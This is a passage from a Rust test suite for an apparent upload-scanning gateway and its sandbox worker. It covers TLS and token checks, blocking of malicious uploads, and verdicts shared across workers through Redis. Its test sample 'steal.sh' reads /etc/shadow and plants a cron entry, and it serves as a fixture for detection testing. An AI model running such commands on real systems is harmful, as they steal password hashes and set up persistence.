    assert_eq!(lost["event"]["category"], "uninspected", "{lost}");
    assert_eq!(lost["sandbox"]["late"], true, "{lost}");
    assert_eq!(lost["file"]["sha256"], unjudged["file"]["sha256"], "{lost}");
    assert!(
        lost["rule"]["name"]
            .as_str()
            .unwrap_or("")
            .contains("no longer knows"),
        "{lost}"
    );
    gw.stop();
    let seen = origin.seen.lock().unwrap().clone();
    assert_eq!(
        seen.iter().filter(|s| s.as_str() == "POST /count").count(),
        3,
        "only the clean and the two unjudged uploads reached the origin: {seen:?}"
    );
    drop(worker);
}

/// The worker on its own host: its API over TLS with a bearer token. Health answers without
/// the token, tasks do not; the gateway's AV stage reaches it by `https://` with the CA and
/// token files and gets its verdict.
#[allow(clippy::await_holding_lock)]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_worker_api_takes_tls_and_a_token() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let dir = TempDir::new("sandbox-tls");
    let pki = common::TestPki::new("Sandbox test CA", &["127.0.0.1"]);
    let ca = write(&dir, "ca.pem", &pki.ca_pem);
    write(&dir, "worker.pem", &pki.cert_pem);
    write(&dir, "worker.key", &pki.key_pem);
    let token = write(&dir, "token", "s3cret-token-for-the-sandbox\n");
    let (worker, addr) = start_worker_with(
        &dir,
        &rules(),
        "tls_cert = \"worker.pem\"\ntls_key = \"worker.key\"\ntoken_file = \"token\"\n\
         slots = 1\ntimeout_secs = 5\n",
    );
    let cacert = ca.display().to_string();
    let url = |p: &str| format!("https://{addr}{p}");
    assert_eq!(call(&["--cacert", &cacert, &url("/healthz")]).0, 200);
    let sample = write(
        &dir,
        "steal.sh",
        "#!/bin/sh\ncat /etc/shadow\necho '* * * * * x' > /etc/cron.d/t\n",
    );
    let data = format!("@{}", sample.display());
    let (code, _) = call(&["--cacert", &cacert, "--data-binary", &data, &url("/tasks")]);
    assert_eq!(code, 401, "no token");
    let wrong = "Authorization: Bearer not-the-token-at-all";
    let (code, _) = call(&["--cacert", &cacert, "-H", wrong, &url("/metrics")]);
    assert_eq!(code, 401, "a wrong token");
    let (code, _) = call(&[&format!("http://{addr}/healthz")]);
    assert_ne!(code, 200, "plain HTTP on the TLS port");

    let origin = common::Origin::start(None).await;
    let av = format!(
        "[av]\nyara = []\nclamav = []\ncache_dir = \"\"\n\
         [av.sandbox]\nurl = \"https://{addr}\"\nca_file = {:?}\ntoken_file = {:?}\n\
         hold_timeout_secs = 10\n",
        cacert,
        token.display().to_string()
    );
    let mut gw = common::Gateway::start("sandbox-tls", "", &av);
    let r = upload(&gw, origin.port, &sample).await;
    assert!(
        r.ends_with("\n403"),
        "malicious upload over the TLS API: {r}"
    );
    let ev = gw.wait_line("events.jsonl", |v| v["rule"]["id"] == "Sandbox.Malicious");
    assert_eq!(ev["sandbox"]["verdict"], "malicious", "{ev}");
    gw.stop();
    drop(worker);
}

/// Two workers sharing one Redis (`[store]` in their files): a sample judged by the first is
/// answered by the second as cached, with no detonation of its own.
#[test]
fn workers_of_a_cluster_share_their_verdicts() {
    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let Some(redis) = common::redis::Redis::start("workers_of_a_cluster_share_their_verdicts")
    else {
        return;
    };
    let port = redis.port;
    let store = format!(
        "timeout_secs = 10\n[store]\nbackend = \"redis\"\nurl = \"redis://127.0.0.1:{port}/\"\ntimeout_ms = 500\n"
    );
    let (da, db) = (
        TempDir::new("sandbox-share-a"),
        TempDir::new("sandbox-share-b"),
    );
    let (_a, addr_a) = start_worker(&da, &store);
    let (_b, addr_b) = start_worker(&db, &store);
    let sample = write(
        &da,
        "steal.sh",
        "#!/bin/sh\ncat /etc/shadow\necho '* * * * * x' > /etc/cron.d/y\n",
    );
    let first = report_of(&addr_a, &sample);
    assert_eq!(first["verdict"], "malicious", "{first:#}");
    let data = format!("@{}", sample.display());
    let (code, body) = call(&["--data-binary", &data, &format!("http://{addr_b}/tasks")]);
    assert_eq!(
        code, 200,
        "the second worker answers from the shared store: {body}"
    );
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["cached"], true);
    assert_eq!(v["report"]["sha256"], first["sha256"]);
    let (_, metrics) = call(&[&format!("http://{addr_b}/metrics")]);
    assert!(
        metrics.contains("sekisho_sandbox_tasks_total{outcome=\"cached\"} 1"),
        "{metrics}"
    );
    assert!(
        !metrics.contains("outcome=\"done\""),
        "worker b detonated nothing: {metrics}"
    );
    drop(redis);
}
